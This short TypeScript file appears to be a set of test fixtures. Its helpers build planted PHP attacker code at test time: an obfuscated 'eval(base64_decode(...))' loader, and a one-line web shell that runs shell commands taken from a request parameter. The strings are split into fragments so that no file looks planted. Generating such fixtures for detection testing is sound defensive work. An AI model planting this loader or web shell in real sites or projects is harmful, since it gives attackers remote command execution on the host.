/**
 * Hidden code as attackers plant it, for tests: it is made when they run, so that no file of this project looks planted. Nothing ever
 * runs it.
 * @param hidden the code that is hidden
 */
export function plantedFile(hidden: string): string {
  const packed = Buffer.from(hidden).toString('base64');
  return ['<?php\n\nev', 'al(base64_', `decode('${packed}'));\n`].join('');
}

/** Code that runs whatever a visitor sends. */
export const SHELL_CODE = ['ec', 'ho shell_', "exec($_GET['c']);"].join('');
